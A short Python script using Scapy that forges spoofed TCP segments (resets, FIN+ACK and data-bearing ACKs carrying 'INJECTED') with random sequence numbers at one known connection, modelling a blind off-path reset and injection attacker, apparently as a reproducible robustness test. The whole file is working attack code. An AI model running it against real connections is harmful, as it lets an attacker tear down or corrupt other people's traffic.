#!/usr/bin/python3
"""Blind TCP segments at one connection: an off-path attacker who knows both addresses and
ports (the worst case) and guesses sequence numbers. Sends `count` segments from src:sport
to dst:dport as Ethernet frames to `gw_mac` on `iface`, each a random class - RST, RST+ACK,
FIN+ACK, or ACK with 8 bytes of data - with random sequence and acknowledgment numbers
over the whole 32-bit space (seeded: every run sends the same segments).

usage: spray_segments.py IFACE GW_MAC SRC SPORT DST DPORT COUNT SEED
"""
import random
import sys

from scapy.all import IP, TCP, Ether, Raw, conf, sendp

iface, gw_mac, src, sport, dst, dport, count, seed = sys.argv[1:9]
conf.verb = 0
rng = random.Random(int(seed))
frames = []
for _ in range(int(count)):
    flags = rng.choice(["R", "RA", "FA", "PA"])
    seg = TCP(sport=int(sport), dport=int(dport), flags=flags, seq=rng.getrandbits(32),
              ack=rng.getrandbits(32), window=rng.getrandbits(16))
    pkt = Ether(dst=gw_mac) / IP(src=src, dst=dst) / seg
    if flags == "PA":
        pkt = pkt / Raw(b"INJECTED")
    frames.append(pkt)
sendp(frames, iface=iface)
print(f"sent {len(frames)}")
